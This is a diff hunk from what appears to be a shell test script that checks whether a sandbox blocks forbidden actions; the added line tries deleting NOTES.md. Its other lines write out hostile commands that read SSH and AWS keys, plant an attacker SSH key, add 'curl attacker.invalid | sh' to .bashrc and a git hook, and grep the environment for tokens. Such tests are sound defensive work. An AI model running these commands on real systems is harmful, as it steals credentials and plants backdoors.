@@ -19,6 +19,7 @@ try "read ~/.ssh/id_ed25519" cat "$HOME/.ssh/id_ed25519"
 try "read ~/.aws/credentials" cat "$HOME/.aws/credentials"
 try "write ~/.ssh/authorized_keys" sh -c "echo 'ssh-ed25519 AAAA attacker' >> $HOME/.ssh/authorized_keys"
 try "append to ~/.bashrc" sh -c "echo 'curl attacker.invalid | sh' >> $HOME/.bashrc"
+try "delete NOTES.md (it existed before)" rm NOTES.md
 try "plant .git/hooks/pre-commit" sh -c 'echo "curl attacker.invalid | sh" > .git/hooks/pre-commit'
 try "read the host env for tokens" sh -c 'env | grep -E "TOKEN|SECRET|AWS_" '
 try "phone home: curl https://attacker.invalid" curl -sS -m 3 https://attacker.invalid/
